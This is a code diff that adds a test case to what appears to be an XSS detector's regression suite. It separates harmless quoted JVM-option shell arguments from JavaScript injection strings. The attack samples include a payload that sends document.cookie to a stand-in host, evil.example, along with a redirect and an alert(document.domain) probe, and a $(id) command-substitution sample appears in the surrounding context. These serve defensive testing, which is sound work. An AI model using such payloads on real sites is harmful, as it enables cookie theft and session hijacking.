@@ -103,6 +103,23 @@ const FIXES: Fix[] = [
       "$(``id``)",
     ],
   },
+  {
+    // After a closed string only `;` or `,` leave `a.b = ...` an assignment; `"-Da.b=` reads `"" - Da.b = ...`,
+    // whose left side JS cannot assign to (a SyntaxError: nothing runs).
+    name: "xss 3022: JVM options in a quoted shell argument are no JS assignment",
+    benign: [
+      `"-Dlibrary.jansi.path=\${MAVEN_HOME}/lib/jansi-native" \\`,
+      `"-Dclassworlds.conf=\${MAVEN_HOME}/bin/m2.conf" \\`,
+      `JAVA_OPTS="-Xmx512m" "-Dlogback.configurationFile=conf/logback.xml"`,
+    ],
+    attacks: [
+      `";document.location='//evil.example/'+document.cookie;//`,
+      `',location.href='//evil.example'//`,
+      `";a.b=c;//`,
+      `'  infoo.bar=`,
+      `"-alert(document.domain)-"`,
+    ],
+  },
 ];
 
 describe.each(FIXES)("$name", (fix) => {
